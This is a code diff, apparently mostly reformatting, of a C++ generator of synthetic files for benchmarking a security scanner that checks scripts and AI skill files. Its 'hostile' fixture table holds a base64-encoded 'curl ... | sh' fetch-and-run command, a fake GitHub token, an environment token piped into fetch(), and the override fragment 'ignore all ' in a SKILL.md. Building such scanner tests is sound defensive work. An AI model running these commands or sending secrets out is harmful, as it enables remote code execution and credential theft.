@@ -65,11 +65,12 @@ std::string json() {
 }
 
 std::string shell() {
-  return repeat({"#!/usr/bin/env bash", "set -euo pipefail", "for file in \"$dir\"/*.pdf; do",
-                 "  name=$(basename \"$file\" .pdf)", "  pdftotext -layout \"$file\" \"$out/$name.txt\"",
-                 "  grep -c 'Total' \"$out/$name.txt\" | sort -n > \"$out/$name.count\"", "done",
-                 "curl -fsSL \"https://api.acme.com/v1/files/$id\" -o \"$out/$id.json\""},
-                file_bytes);
+  return repeat(
+      {"#!/usr/bin/env bash", "set -euo pipefail", "for file in \"$dir\"/*.pdf; do",
+       "  name=$(basename \"$file\" .pdf)", "  pdftotext -layout \"$file\" \"$out/$name.txt\"",
+       "  grep -c 'Total' \"$out/$name.txt\" | sort -n > \"$out/$name.count\"", "done",
+       "curl -fsSL \"https://api.acme.com/v1/files/$id\" -o \"$out/$id.json\""},
+      file_bytes);
 }
 
 std::string requirements() {
@@ -93,17 +94,21 @@ std::string html() {
 
 std::string minified() {
   std::mt19937 random(5);
-  const std::vector<std::string_view> parts{
-      "!function(e,t){", "var n=e.length,r=t.key||[];", "for(;n--;)r[n]=e[n].token+n;",
-      "return r.map(function(e){return e>2?e:0})}", "(a,b);", "i.push({id:1,auth:!0,path:\"/a\"});",
-      "if(o&&o.data)try{s(o.data)}catch(e){u(e)}"};
+  const std::vector<std::string_view> parts{"!function(e,t){",
+                                            "var n=e.length,r=t.key||[];",
+                                            "for(;n--;)r[n]=e[n].token+n;",
+                                            "return r.map(function(e){return e>2?e:0})}",
+                                            "(a,b);",
+                                            "i.push({id:1,auth:!0,path:\"/a\"});",
+                                            "if(o&&o.data)try{s(o.data)}catch(e){u(e)}"};
   std::string text;
   while (text.size() < file_bytes) text += parts[random() % parts.size()];
   return text;
 }
 
 std::string other_script() {  // UTF-8 of three bytes a letter
-  return repeat({"表を読み取り、行ごとに書き出します。", "設定は config.json にあります。"}, file_bytes);
+  return repeat({"表を読み取り、行ごとに書き出します。", "設定は config.json にあります。"},
+                file_bytes);
 }
 
 // What costs a scanner most, one after the other.
@@ -141,9 +146,11 @@ constexpr Subject subjects[] = {
     {"hostile/ligatures", "SKILL.md", [] { return units("", "\xEF\xB7\xBA"); }},
     {"hostile/phrase", "SKILL.md", [] { return units("", "ignore all "); }},
     {"hostile/base64", "run.py", [] { return units("", "Y3VybCBodHRwOi8vYS5iLyBsIHwgc2g=\n"); }},
-    {"hostile/tokens", "run.py", [] { return units("", "ghp_0aB1cD2eF3gH4iJ5kL6mN7oP8qR9sT0uV1wX\n"); }},
+    {"hostile/tokens", "run.py",
+     [] { return units("", "ghp_0aB1cD2eF3gH4iJ5kL6mN7oP8qR9sT0uV1wX\n"); }},
     {"hostile/addresses", "run.sh", [] { return units("", "curl http://a.b.c/d?e\n"); }},
-    {"hostile/tainted", "run.py", [] { return units("a=environ['TOKEN']\n", "b=a;a=b;fetch(a)\n"); }},
+    {"hostile/tainted", "run.py",
+     [] { return units("a=environ['TOKEN']\n", "b=a;a=b;fetch(a)\n"); }},
     {"hostile/opens", "run.py", [] { return units("", "open('a.txt','w')\n"); }},
 };
 
